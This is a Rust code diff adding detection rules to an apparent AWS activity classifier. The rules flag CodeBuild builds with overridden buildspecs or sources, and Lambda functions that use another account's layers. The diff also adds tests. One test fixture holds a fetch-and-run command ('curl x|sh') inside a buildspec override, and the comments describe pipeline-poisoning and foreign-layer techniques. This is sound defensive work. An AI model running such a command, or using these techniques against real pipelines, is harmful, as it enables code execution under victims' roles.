@@ -707,6 +707,8 @@ pub const DERIVED: &[Row] = &[
     TAGS_MUTABLE,
     RULE_DISABLED,
     ALARM_ACTIONS_OFF,
+    BUILD_OVERRIDDEN,
+    FOREIGN_LAYER,
 ];
 
 /// An SSM command or association for every managed instance at once (`InstanceIds` `*`).
@@ -748,6 +750,19 @@ pub const ALARM_ACTIONS_OFF: Row = row(
     DefenseEvasion,
     3,
 );
+
+/// A CodeBuild build told to run another buildspec or other code than its project's
+/// (`buildspecOverride`, `sourceLocationOverride`): the project's role runs whatever the
+/// caller wrote — a pipeline poisoned without changing the pipeline.
+pub const BUILD_OVERRIDDEN: Row = row(
+    "codebuild.amazonaws.com",
+    "build with its buildspec or source overridden",
+    PrivilegeEscalation,
+    3,
+);
+/// A Lambda function given a layer of another account (`CreateFunction`,
+/// `UpdateFunctionConfiguration`): that account's code runs in the function, with its role.
+pub const FOREIGN_LAYER: Row = row(LAMBDA, "layer of another account", Persistence, 3);
 
 fn accelerated(a: &Activity) -> Option<&'static Row> {
     // Capacity blocks are for accelerated instances only.
@@ -819,6 +834,47 @@ fn rule_disabled(a: &Activity) -> Option<&'static Row> {
 
 fn alarm_actions_off(a: &Activity) -> Option<&'static Row> {
     is_false(param(a, "actionsEnabled")).then_some(&ALARM_ACTIONS_OFF)
+}
+
+fn build_overridden(a: &Activity) -> Option<&'static Row> {
+    ["buildspecOverride", "sourceLocationOverride"]
+        .iter()
+        .any(|k| {
+            param(a, k)
+                .and_then(serde_json::Value::as_str)
+                .is_some_and(|v| !v.trim().is_empty())
+        })
+        .then_some(&BUILD_OVERRIDDEN)
+}
+
+/// Accounts AWS publishes its own Lambda layers from (in the commercial regions): Lambda
+/// Insights, the Parameters and Secrets extension, the AWS Distro for OpenTelemetry,
+/// Powertools for AWS Lambda, the AppConfig extension. A layer of one of them is AWS's code,
+/// not another account's. (Layers AWS publishes from other accounts — newer regions, other
+/// extensions — count as foreign: once per actor, as any first use.)
+const AWS_LAYER_ACCOUNTS: &[&str] = &[
+    "580247275435",
+    "177933569100",
+    "901920570463",
+    "017000801446",
+    "027255383542",
+];
+
+fn foreign_layer(a: &Activity) -> Option<&'static Row> {
+    let own = a.account_id.as_deref()?;
+    // `arn:PARTITION:lambda:REGION:ACCOUNT:layer:NAME:VERSION`, as a list of strings (or of
+    // objects naming it, as a response writes them).
+    strings(param(a, "layers")?)
+        .into_iter()
+        .take(16)
+        .filter_map(|arn| arn.split(':').nth(4))
+        .any(|account| {
+            account.len() == 12
+                && account.bytes().all(|b| b.is_ascii_digit())
+                && account != own
+                && !AWS_LAYER_ACCOUNTS.contains(&account)
+        })
+        .then_some(&FOREIGN_LAYER)
 }
 
 fn recovery_off(a: &Activity) -> Option<&'static Row> {
@@ -1059,6 +1115,13 @@ static INDEX: LazyLock<Index<'static>> = LazyLock::new(|| {
                 ("monitoring.amazonaws.com", "PutMetricAlarm"),
                 alarm_actions_off,
             ),
+            (("codebuild.amazonaws.com", "StartBuild"), build_overridden),
+            (
+                ("codebuild.amazonaws.com", "StartBuildBatch"),
+                build_overridden,
+            ),
+            ((LAMBDA, "CreateFunction"), foreign_layer),
+            ((LAMBDA, "UpdateFunctionConfiguration"), foreign_layer),
         ]);
     for (call, derive) in derived {
         index
@@ -1550,6 +1613,50 @@ mod tests {
         assert_eq!(
             classified(dynamodb, "DeleteTable", json!({"tableName": "orders"})),
             own(dynamodb, "DeleteTable", Impact, 2)
+        );
+        // A build told to run other commands (or other code) than its project's: the
+        // project's role runs whatever the caller wrote.
+        let codebuild = "codebuild.amazonaws.com";
+        let inline = json!({"projectName": "release",
+            "buildspecOverride": "version: 0.2\nphases:\n  build:\n    commands:\n      - curl x|sh"});
+        assert_eq!(
+            classified(codebuild, "StartBuild", inline),
+            derived(&BUILD_OVERRIDDEN)
+        );
+        let elsewhere = json!({"projectName": "release",
+            "sourceLocationOverride": "https://github.com/someone/else"});
+        assert_eq!(
+            classified(codebuild, "StartBuildBatch", elsewhere),
+            derived(&BUILD_OVERRIDDEN)
+        );
+        let plain = json!({"projectName": "release", "sourceVersion": "main"});
+        assert_eq!(classified(codebuild, "StartBuild", plain), None);
+        let empty = json!({"projectName": "release", "buildspecOverride": ""});
+        assert_eq!(classified(codebuild, "StartBuild", empty), None);
+        // A Lambda layer of another account put under a function (its code runs in the
+        // function, with its role); the account's own layers are the function's.
+        let foreign = json!({"functionName": "billing",
+            "layers": ["arn:aws:lambda:us-east-1:111111111111:layer:shared:3",
+                "arn:aws:lambda:us-east-1:999988887777:layer:helper:1"]});
+        assert_eq!(
+            classified(
+                LAMBDA,
+                "UpdateFunctionConfiguration20150331v2",
+                foreign.clone()
+            ),
+            derived(&FOREIGN_LAYER)
+        );
+        assert_eq!(
+            classified(LAMBDA, "CreateFunction20150331", foreign),
+            derived(&FOREIGN_LAYER)
+        );
+        // AWS's own layers (Lambda Insights here) are AWS's code, not another account's.
+        let own_layer = json!({"functionName": "billing",
+            "layers": ["arn:aws:lambda:us-east-1:111111111111:layer:shared:3",
+                "arn:aws:lambda:us-east-1:580247275435:layer:LambdaInsightsExtension:53"]});
+        assert_eq!(
+            classified(LAMBDA, "UpdateFunctionConfiguration20150331v2", own_layer),
+            own(LAMBDA, "UpdateFunctionConfiguration", Persistence, 2)
         );
         // Every derived row's key is its own: no row of the table, no other derived row.
         let mut keys: Vec<u32> = TABLE
